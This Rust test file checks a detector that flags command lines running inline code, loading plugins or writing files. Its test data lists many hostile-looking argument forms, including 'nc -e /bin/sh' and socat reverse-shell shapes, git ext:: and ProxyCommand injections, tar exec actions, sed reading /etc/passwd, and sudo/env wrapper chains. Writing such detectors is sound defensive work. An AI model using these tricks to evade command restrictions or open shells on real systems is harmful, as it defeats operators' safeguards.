//! Inline code and program-starting options: what must be found, and what must be left alone.
//! Words are separated by blanks; single quotes group.

use interlock_programs::inline::{
    HitKind, InlineHit, detect, detect_through_carriers, is_inline_capable_pattern,
    is_interpreter_like_safe_bin,
};

fn words(line: &str) -> Vec<String> {
    let mut words: Vec<String> = Vec::new();
    for (part, text) in line.split('\'').enumerate() {
        if part % 2 == 1 {
            words.push(text.to_owned());
        } else {
            words.extend(text.split_whitespace().map(str::to_owned));
        }
    }
    words
}

/// Fails with every line whose label is not the expected one.
#[track_caller]
fn check(
    cases: impl IntoIterator<Item = (impl AsRef<str>, Option<&'static str>)>,
    find: fn(&[String]) -> Option<InlineHit>,
) {
    let cases = cases.into_iter();
    let wrong: Vec<String> = cases
        .filter_map(|(line, expected)| {
            let found = find(&words(line.as_ref())).map(|hit| hit.label());
            let is_wrong = found.as_deref() != expected;
            is_wrong.then(|| format!("{}: {found:?}, not {expected:?}", line.as_ref()))
        })
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[track_caller]
fn finds(cases: &[(&str, &'static str)]) {
    check(
        cases.iter().map(|(line, label)| (line, Some(*label))),
        detect,
    );
}

#[track_caller]
fn leaves_alone(lines: &[&str]) {
    check(lines.iter().map(|line| (line, None)), detect);
}

#[test]
fn program_text_is_found_in_every_spelling() {
    finds(&[
        ("python3 -c 'print(1)'", "python3 -c"),
        ("python3 -W ignore -Bc 'print(1)'", "python3 -c"),
        (
            "python3 --check-hash-based-pycs never -c 'print(1)'",
            "python3 -c",
        ),
        ("pypy3.10 -IBc 'print(1)'", "pypy3.10 -c"),
        ("node -pe '1+1'", "node -p"),
        ("node --no-warnings --eval=1", "node --eval"),
        ("node --unknown-option value -e 1", "node -e"),
        ("deno eval 'Deno.exit()'", "deno eval"),
        ("bun -e 1", "bun -e"),
        ("tsx -e 1", "tsx -e"),
        ("ruby -rjson -e 'puts 1'", "ruby -e"),
        ("ruby -00pe 'puts 1'", "ruby -e"),
        ("perl -0777pe 's/a/b/'", "perl -e"),
        ("perl -Mstrict -we 1", "perl -e"),
        ("perl '-i.bak -e' 'print 1'", "perl -e"),
        ("perl -E say", "perl -E"),
        ("php -nr 'echo 1;'", "php -r"),
        ("php -B 1", "php -B"),
        ("awk '{print $1}' file", "awk inline program"),
        ("awk -v x=1 -- '{print x}'", "awk inline program"),
        ("mawk -F : '{print}'", "mawk inline program"),
        ("lua5.4 -e 'print(1)'", "lua5.4 -e"),
        ("R -e 'q()'", "r -e"),
        ("elixir --eval 1", "elixir --eval"),
        ("elixir --rpc-eval node@host 1", "elixir --rpc-eval"),
        (
            "gdb --early-init-eval-c 'shell id'",
            "gdb --early-init-eval-command",
        ),
        ("groovy -pe 'x'", "groovy -e"),
        ("groovy -encoding:x", "groovy -e"),
        ("expect -d -c 'spawn id'", "expect -c"),
        ("erl -noshell -s mod start", "erl -s"),
        ("make -f other.mk", "make -f"),
        ("make --ev=x", "make --eval"),
        ("make -E x", "make -E"),
        ("find . -name x -execdir id {} ;", "find -execdir"),
        ("find -- . -ok id ;", "find -ok"),
        ("xargs -n1 -P 4 rm", "xargs inline command"),
        ("xargs -I {} sh -c {}", "xargs inline command"),
        ("osascript -l JavaScript -e x", "osascript -e"),
        ("jrunscript -e x", "jrunscript -e"),
        ("vim -es -c ':!id' -c q file", "vim -c"),
        ("vim '+:!id' file", "vim +command"),
        ("emacs --batch -eval x", "emacs -eval"),
        ("less '+!id' file", "less +command"),
        ("mysql --exec=x", "mysql --execute"),
        ("psql -Atc 'select 1'", "psql -c"),
        ("sqlite3 db '.shell id'", "sqlite3 inline program"),
        (
            "sqlite3 db '/* x */ attach x as y'",
            "sqlite3 inline program",
        ),
        ("rpm --eval %(id)", "rpm --eval"),
        ("npx -c 'id'", "npx -c"),
        ("pdflatex '\\write18{id}'", "pdflatex inline program"),
    ]);
}

#[test]
fn options_that_start_load_point_elsewhere_or_write_are_found() {
    use HitKind::{Code, LoadsCode, OtherConfig, ProgramOption, WritesFile};
    let cases = [
        ("python3 -m http.server", "python3 -m", LoadsCode),
        (
            "python3 -W error::evil.Warning x.py",
            "python3 -W",
            LoadsCode,
        ),
        (
            "node --experimental_loader ./x.mjs a.js",
            "node --experimental-loader",
            LoadsCode,
        ),
        ("node -r ./x.js a.js", "node -r", LoadsCode),
        (
            "node --inspect-brk=0.0.0.0 a.js",
            "node --inspect-brk",
            ProgramOption,
        ),
        ("ruby -rsocket x.rb", "ruby -r", LoadsCode),
        ("perl -d:Evil x.pl", "perl -d", LoadsCode),
        ("php -dauto_prepend_file=x x.php", "php -d", OtherConfig),
        (
            "java -javaagent:x.jar -jar y.jar",
            "java -javaagent",
            LoadsCode,
        ),
        (
            "java -XX:OnError=id Main",
            "java -XX:OnError",
            ProgramOption,
        ),
        ("java @args Main", "java @file", OtherConfig),
        ("git -c core.sshCommand=id fetch", "git -c", OtherConfig),
        ("git -c core.pager=less;id log", "git -c", OtherConfig),
        ("git -C /tmp/evil status", "git -C", OtherConfig),
        (
            "git --git-dir=/tmp/evil status",
            "git --git-dir",
            OtherConfig,
        ),
        (
            "git --exec-path=/tmp status",
            "git --exec-path",
            ProgramOption,
        ),
        (
            "git clone --template=/tmp/t url",
            "git --template",
            LoadsCode,
        ),
        (
            "git clone url --upload-p=id",
            "git --upload-pack",
            ProgramOption,
        ),
        ("git clone -c core.fsmonitor=id url", "git -c", OtherConfig),
        ("git clone 'ext::sh -c id' x", "git ext::", ProgramOption),
        (
            "git fetch --upload-pack id",
            "git --upload-pack",
            ProgramOption,
        ),
        (
            "git push --receive-pack=id",
            "git --receive-pack",
            ProgramOption,
        ),
        ("git rebase -x 'make test' main", "git -x", Code),
        ("git bisect run ./t.sh", "git bisect run", ProgramOption),
        ("git submodule foreach 'id'", "git submodule foreach", Code),
        ("git difftool -x id", "git -x", ProgramOption),
        ("git grep -Oid x", "git -O", ProgramOption),
        ("git log --output=/tmp/x", "git --output", WritesFile),
        // What an option may take for its value, and may not, counts as an option too.
        ("git log -U --output=/tmp/x", "git --output", WritesFile),
        (
            "git log --format --output=/tmp/x",
            "git --output",
            WritesFile,
        ),
        (
            "cargo build --bin --config=x.toml",
            "cargo --config",
            OtherConfig,
        ),
        (
            "cargo test -p --config x.toml",
            "cargo --config",
            OtherConfig,
        ),
        ("git pull -s x", "git -s", ProgramOption),
        ("cargo doc --open", "cargo --open", ProgramOption),
        ("git diff --ext-diff", "git --ext-diff", ProgramOption),
        ("git config core.pager id", "git config", OtherConfig),
        (
            "git config --global alias.x '!id'",
            "git config",
            OtherConfig,
        ),
        (
            "git config set --local core.editor id",
            "git config",
            OtherConfig,
        ),
        ("git merge -s evil branch", "git -s", ProgramOption),
        ("ssh -o ProxyCommand=id host", "ssh -o", ProgramOption),
        ("ssh -vo 'proxycommand id' host", "ssh -o", ProgramOption),
        ("ssh host -oLocalCommand=id", "ssh -o", ProgramOption),
        ("ssh -F /tmp/c host", "ssh -F", OtherConfig),
        ("scp -S /tmp/x a host:b", "scp -S", ProgramOption),
        ("sftp -b batch host", "sftp -b", LoadsCode),
        ("ssh-keygen -D ./lib.so", "ssh-keygen -D", LoadsCode),
        ("rsync -ae 'sh -c id' a b:c", "rsync -e", ProgramOption),
        (
            "rsync -e 'ssh -o ProxyCommand=id' a b:c",
            "rsync -e",
            ProgramOption,
        ),
        (
            "rsync --rsync-path=id a b:c",
            "rsync --rsync-path",
            ProgramOption,
        ),
        (
            "tar cf a --checkpoint=1 --checkpoint-action=exec=id x",
            "tar --checkpoint-action",
            ProgramOption,
        ),
        ("tar -cf a x -I 'sh -c id'", "tar -I", ProgramOption),
        ("tar cfI a.tar id x", "tar -I", ProgramOption),
        ("tar xf a --to-com=id", "tar --to-command", ProgramOption),
        (
            "tar xf a --use-comp=id",
            "tar --use-compress-program",
            ProgramOption,
        ),
        (
            "tar xf a --us id",
            "tar --use-compress-program",
            ProgramOption,
        ),
        ("tar -cf a -T list", "tar -T", OtherConfig),
        ("tar cTf list a", "tar -T", OtherConfig),
        ("zip -qTT 'sh #' a b", "zip -TT", ProgramOption),
        ("split --filt=id x", "split --filter", ProgramOption),
        (
            "sort --compress-prog=id x",
            "sort --compress-program",
            ProgramOption,
        ),
        ("sort x -o y", "sort -o", WritesFile),
        ("sort -uo y x", "sort -o", WritesFile),
        ("sort --outp y x", "sort --output", WritesFile),
        ("uniq a b", "uniq OUTPUT", WritesFile),
        ("rg --pre id x", "rg --pre", ProgramOption),
        ("rg x --pre=id", "rg --pre", ProgramOption),
        ("fd -e rs -x id", "fd -x", ProgramOption),
        ("find . -fprint x", "find -fprint", WritesFile),
        ("find . -delete", "find -delete", WritesFile),
        ("man -P id ls", "man -P", ProgramOption),
        ("man --pag=id ls", "man --pager", ProgramOption),
        (
            "less --lesskey-content=x f",
            "less --lesskey-content",
            OtherConfig,
        ),
        ("vim -u evil f", "vim -u", LoadsCode),
        ("curl -sSLo x URL", "curl -o", WritesFile),
        ("curl URL -O", "curl -O", WritesFile),
        ("curl -K conf", "curl -K", OtherConfig),
        ("curl --outpu x URL", "curl --output", WritesFile),
        ("wget --use-ask=id URL", "wget --use-askpass", ProgramOption),
        ("wget -e use_askpass=id URL", "wget -e", OtherConfig),
        ("wget -qO x URL", "wget -O", WritesFile),
        ("make SHELL=/tmp/x", "make SHELL=", ProgramOption),
        ("make 'X=$(shell id)'", "make inline variable", Code),
        ("make X!=id", "make inline variable", Code),
        ("make -sC sub", "make -C", OtherConfig),
        ("make CC=/tmp/cc", "make CC=", ProgramOption),
        (
            "cargo --config build.rustc-wrapper=id build",
            "cargo --config",
            OtherConfig,
        ),
        (
            "cargo build --config evil.toml",
            "cargo --config",
            OtherConfig,
        ),
        (
            "cargo test --manifest-path /tmp/x/Cargo.toml",
            "cargo --manifest-path",
            OtherConfig,
        ),
        ("rustc -Clinker=id x.rs", "rustc -C", ProgramOption),
        (
            "npm --script-shell=id test",
            "npm --script-shell",
            ProgramOption,
        ),
        ("npm exec cowsay", "npm exec", ProgramOption),
        ("npm init evil", "npm init", LoadsCode),
        ("pnpm dlx evil", "pnpm dlx", ProgramOption),
        ("npm --prefix /tmp/x test", "npm --prefix", OtherConfig),
        ("pip install -i http://x y", "pip -i", OtherConfig),
        ("pip3 install -e .", "pip3 -e", LoadsCode),
        ("go test -exec id ./...", "go -exec", ProgramOption),
        ("go test ./... --exec=id", "go --exec", ProgramOption),
        ("go build -toolexec id", "go -toolexec", ProgramOption),
        (
            "go build '-ldflags=-extld id'",
            "go -ldflags",
            ProgramOption,
        ),
        (
            "go run evil.test/x@latest",
            "go run PACKAGE@VERSION",
            LoadsCode,
        ),
        (
            "go run -unknown a evil.test/x@v1 serve",
            "go run PACKAGE@VERSION",
            LoadsCode,
        ),
        ("go doc -http=:6060", "go -http", ProgramOption),
        ("go env -w CC=id", "go env -w", OtherConfig),
        ("gcc -fplugin=x.so a.c", "gcc -fplugin", LoadsCode),
        ("gcc-12 -B/tmp a.c", "gcc-12 -B", ProgramOption),
        (
            "x86_64-linux-gnu-gcc -wrapper id a.c",
            "x86_64-linux-gnu-gcc -wrapper",
            ProgramOption,
        ),
        ("gcc @opts", "gcc @file", OtherConfig),
        ("clang --config=x a.c", "clang -config", OtherConfig),
        (
            "clang -Xclang -load -Xclang x.so a.c",
            "clang -load",
            LoadsCode,
        ),
        ("gcc -Wl,-plugin,x.so a.c", "gcc -Wl", LoadsCode),
        ("cmake -P x.cmake", "cmake -P", LoadsCode),
        (
            "cmake -DCMAKE_C_COMPILER_LAUNCHER=id .",
            "cmake -D",
            ProgramOption,
        ),
        (
            "kubectl --kubeconfig=x get pods",
            "kubectl --kubeconfig",
            OtherConfig,
        ),
        ("kubectl exec pod -- id", "kubectl exec", ProgramOption),
        ("openssl req -engine x", "openssl -engine", LoadsCode),
        ("tcpdump -z id -w x", "tcpdump -z", ProgramOption),
        ("nmap --script=x host", "nmap --script", LoadsCode),
        ("nc -e /bin/sh host 1", "nc -e", ProgramOption),
        ("socat EXEC:sh TCP:host:1", "socat EXEC:", ProgramOption),
        (
            "apt-get -o APT::Update::Pre-Invoke::=id update",
            "apt-get -o",
            ProgramOption,
        ),
        ("pytest -p evil", "pytest -p", LoadsCode),
        ("gawk -l evil 'x' f", "gawk inline program", Code),
        ("gawk -l evil -f x.awk", "gawk -l", LoadsCode),
        ("gawk -o/tmp/x -f x.awk", "gawk -o", WritesFile),
    ];
    check(
        cases.iter().map(|(line, label, _)| (line, Some(*label))),
        detect,
    );
    for (line, _, kind) in cases {
        assert_eq!(
            detect(&words(line)).map(|hit| hit.kind),
            Some(kind),
            "{line}"
        );
    }
}

#[test]
fn everyday_commands_are_left_alone() {
    leaves_alone(&[
        "python3 script.py -c x -m y",
        "python3 -u -X utf8 -W ignore script.py",
        "python3 --version",
        "node server.js -e production --require x",
        "node --max-old-space-size=4096 build.js",
        "node --test",
        "deno run -A main.ts -e x",
        "deno run -r main.ts",
        "ruby script.rb -e x",
        "perl -w script.pl -e x",
        "perl -c script.pl",
        "php artisan migrate -r x",
        "php -d memory_limit=-1 script.php",
        "awk -f script.awk data",
        "gawk --file=script.awk data",
        "lua script.lua -e x",
        "java -Xmx2g -cp lib/x.jar Main -javaagent:x",
        "java -jar app.jar @x",
        "gdb -batch -x commands.gdb ./program",
        "gdb --args ./program -ex x",
        "find . -type f -name *.rs -newer x -print0",
        "find . -name -exec",
        "xargs -0 -n 1",
        "make",
        "make -j 8 test V=1 CFLAGS=-O2",
        "make -Oline CC=clang PREFIX=/usr/local install",
        "git status --short",
        "git -c color.ui=never status",
        "git -c core.pager=cat -c user.name=x log --oneline -n 5",
        "git --no-pager diff --stat HEAD~1 -- src",
        "git --exec-path",
        "git -C . status",
        "git commit -m 'ext:: is odd -c x'",
        "git commit -c HEAD",
        "git log -S needle -p --author x --format=%H",
        "git grep -n -e pattern -- src",
        "git rebase --continue",
        "git rebase -i main",
        "git checkout -b x",
        "git clone --depth 1 https://example.org/x.git",
        "git clone -b main -o upstream url",
        "git push -u origin main",
        "git push -o ci.skip",
        "git fetch --all --prune",
        "git merge -s ours x",
        "git config user.name x",
        "git config --get core.pager",
        "git config core.pager",
        "git config -f .gitmodules submodule.x.url",
        "git submodule update --init",
        "git archive HEAD",
        "git stash list",
        "git show HEAD:file -u",
        "ssh -p 22 -i key -o StrictHostKeyChecking=no host ls -o ProxyCommand=x",
        "ssh -o ProxyCommand=none -J jump host uptime",
        "scp -P 22 -r a host:b",
        "rsync -avz -e ssh a host:b",
        "rsync -av -e 'ssh -p 2222 -i key' --exclude target a host:b",
        "tar xzf a.tgz -C dir",
        "tar -czvf a.tgz --exclude=target .",
        "tar -I zstd -xf a.tar.zst",
        "tar -I 'zstd -T0 -19' -cf a.tar.zst x",
        "tar --zstd -cf a.tar.zst x",
        "tar cf a.tar --null -T list",
        "tar -tvf a.tar",
        "zip -r a.zip dir",
        "unzip -o a.zip",
        "sort -u -k 2,2n -t , file",
        "sort -rn",
        "uniq -c",
        "uniq -f 1 file",
        "rg -n pattern src",
        "rg -e --pre -g *.rs",
        "rg --files --hidden",
        "grep -rn -e x .",
        "fd -e rs",
        "less +G file",
        "less -R +/pattern file",
        "man ls",
        "man -P cat ls",
        "vim +12 file",
        "vim file",
        "emacs -nw file",
        "curl -sS https://example.org",
        "curl -fsSL -o /dev/null -w %{http_code} https://example.org",
        "curl -X POST -H 'Content-Type: x' -d '{}' https://example.org",
        "wget -qO- https://example.org",
        "wget --spider -nv https://example.org",
        "cargo test --workspace -p x -- --config x",
        "cargo build --release --features a,b",
        "cargo --config term.color='never' check",
        "rustc --edition 2024 -C opt-level=3 x.rs",
        "npm test",
        "npm run build -- --config x",
        "npm install --save-dev x",
        "npm init -y",
        "npm ci --ignore-scripts",
        "npx tsc --noEmit -p tsconfig.json",
        "yarn build",
        "pip install -r requirements.txt",
        "pip list",
        "pip install --pre x",
        "ansible-playbook --become site.yml",
        "git diff --text --exit-code",
        "tar cf a.tar --checkpoint=100 x",
        "nano --backup file",
        "uv sync",
        "uv run pytest -p x",
        "go test ./... -run TestX -v",
        "go build -o bin/x -ldflags '-s -w' ./cmd/x",
        "go run . -exec x",
        "go run ./cmd/x --mail a@b.test",
        "go run main.go a@b",
        "gcc -O2 -Wall -Wl,-rpath,/x -I include -o x x.c",
        "clang -fuse-ld=lld -c x.c",
        "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release",
        "cmake --build build --config Release",
        "ninja -j 4",
        "kubectl get pods -n x",
        "kubectl logs exec",
        "sqlite3 db 'select count(*) from t'",
        "sqlite3 db .tables",
        "sqlite3 -header -csv db 'select 1; select 2'",
        "openssl x509 -in a.pem -noout -text",
        "tcpdump -i eth0 -n",
        "nmap -sV -p 80 host",
        "apt-get install -y x",
        "apt-get -o Dpkg::Options::=--force-confold upgrade",
        "pytest -q -k x -p no:cacheprovider tests",
        "split -b 1m x",
        "jq .a file",
        "bash -c 'python3 -c x'",
        "echo -c x",
        "cat",
    ]);
    assert_eq!(detect(&[] as &[&str]), None);
    assert_eq!(detect_through_carriers(&[] as &[&str]), None);
}

#[test]
fn only_sed_programs_that_execute_read_or_write_are_found() {
    finds(&[
        ("sed s/.*/id/e", "sed inline program"),
        ("sed -n 's/a/b/gpw out' f", "sed inline program"),
        ("sed -ne 1e -e p", "sed -e"),
        ("sed '--expr=1!{r /etc/passwd' f", "sed --expression"),
        ("sed '/x/,/y/w out' f", "sed inline program"),
        ("sed 'p;W out'", "sed inline program"),
        ("sed ':a;e id'", "sed inline program"),
        ("sed ':a e id'", "sed inline program"),
        ("sed 'ba 2e;:a'", "sed inline program"),
        ("sed 's,a,b,;R x'", "sed inline program"),
        ("sed '\\%x%e'", "sed inline program"),
        ("sed 's/[/]/x/e'", "sed inline program"),
        ("sed -e 'a\\' -e 'text' -e e", "sed -e"),
        ("sed 'y/ab/cd/;e'", "sed inline program"),
        ("sed 's/a/b/ k'", "sed inline program"),
        ("sed -i s/a/b/ f", "sed -i"),
        ("sed f.txt -i.bak -e s/a/b/", "sed -i"),
        ("sed --in-pl=.bak s/a/b/ f", "sed --in-place"),
    ]);
    leaves_alone(&[
        "sed -n 1,20p file",
        "sed -n '$p' file",
        "sed s/e/w/g file",
        "sed -E 's|(a+)/w|\\1/e|2gI' file",
        "sed -e 's/a/b/' -e '/x/d' file",
        "sed -e 'a\\' -e 'e id' file",
        "sed '1i\\  w text' file",
        "sed '/e/!s/[/e]/x/'",
        "sed ':a;N;$!ba;s/\\n/ /g'",
        "sed 'y/ew/we/'",
        "sed '/^#/d;/^$/d'",
        "sed '1~2{p;p}'",
        "sed -n '/a/{s/b/c/;p}' f",
        "sed 's/a/b/w /dev/stdout'",
        "sed 5q",
        "sed '# e id'",
        "sed -f script.sed file",
        "sed --sandbox s/a/b/e",
    ]);
}

#[test]
fn the_program_behind_carriers_is_the_one_that_is_judged() {
    let find = |argv: &[String]| detect_through_carriers(argv);
    let hits = [
        ("sudo -u root python3 -c x", "python3 -c"),
        ("sudo --us root python3 -c x", "python3 -c"),
        ("sudo --user=root -n -- A=1 -E python3 -c x", "python3 -c"),
        ("sudo A=1 -u root B=2 python3 -c x", "python3 -c"),
        (
            "/usr/bin/sudo env -i A=1 command -p exec -a x python3 -c x",
            "python3 -c",
        ),
        ("env - A=1 python3 -c x", "python3 -c"),
        ("env -u A -C /tmp python3 -c x", "python3 -c"),
        ("sudo --preserve-env python3 -c x -v", "python3 -c"),
        ("env --debug python3 -c x --help", "python3 -c"),
        ("env --block-signal python3 -c x", "python3 -c"),
        ("env '-Spython3 -c' x", "python3 -c"),
        ("env '--split-string=-i A=1 python3' -c x", "python3 -c"),
        ("env -S 'env -S \"python3 -c\"' x", "python3 -c"),
        ("doas -n -u root find . -delete", "find -delete"),
        ("builtin command git -c core.pager=id log", "git -c"),
        ("sh -lc '$0 \"$@\"' find . -exec id ;", "find -exec"),
        ("bash -c '\"$@\"' _ python3 -c x", "python3 -c"),
        (
            "bash -o pipefail -c 'cd /; exec \"${@}\"' _ python3 -c x",
            "python3 -c",
        ),
        (
            "bash -c '\"$1\" \"${@:2}\"' _ sudo python3 -c x",
            "python3 -c",
        ),
    ];
    check(hits.map(|(line, label)| (line, Some(label))), find);
    let nothing = [
        "sudo -l python3 -c x",
        "sudo -nv python3 -c x",
        "sudo --edit python3 -c x",
        "sudo -u root",
        "command -V python3 -c x",
        "env A=1",
        "env --help python3 -c x",
        "sudo echo python3 -c x",
        "sh -c 'echo \"$@\"' _ python3 -c x",
        "sh -c '$0 \"$1\"' python3 -c x",
        "sh script.sh python3 -c x",
    ];
    check(nothing.map(|line| (line, None)), find);
}

#[test]
fn a_hit_tells_where_it_stands() {
    let hit = detect_through_carriers(&["sudo", "-u", "root", "python3", "-c", "x"]);
    assert_eq!(
        hit,
        Some(InlineHit {
            program: "python3".to_owned(),
            flag: "-c".to_owned(),
            kind: HitKind::Code,
            arg_index: 4,
            reason: "the argument is program text",
        })
    );
    let split = detect_through_carriers(&["env", "-S", "python3 -c", "x"]);
    assert_eq!(split.map(|hit| hit.arg_index), Some(2));
}

#[test]
fn text_split_again_and_again_is_a_hit_of_its_own() {
    let nested = |levels: usize| {
        let mut argv = vec!["env"];
        argv.extend(["-S", "env"].repeat(levels));
        argv.push("true");
        detect_through_carriers(&argv).map(|hit| hit.label())
    };
    assert_eq!(nested(32), None);
    assert_eq!(nested(33).as_deref(), Some("env -S"));
}

#[test]
fn patterns_that_cover_interpreters_are_known() {
    for pattern in [
        "python3",
        "/usr/bin/py*",
        "**/perl5.36",
        "*",
        "/opt/*/nod?",
        "/usr/bin/[a-z]ed",
        "python3.1?",
    ] {
        assert!(is_inline_capable_pattern(pattern), "{pattern}");
    }
    for pattern in ["rg", "/usr/bin/rg", "cargo*", "/usr/bin/git", "", "bash"] {
        assert!(!is_inline_capable_pattern(pattern), "{pattern}");
    }
    assert!(is_interpreter_like_safe_bin("/usr/bin/php8.2"));
    assert!(!is_interpreter_like_safe_bin("sort"));
}
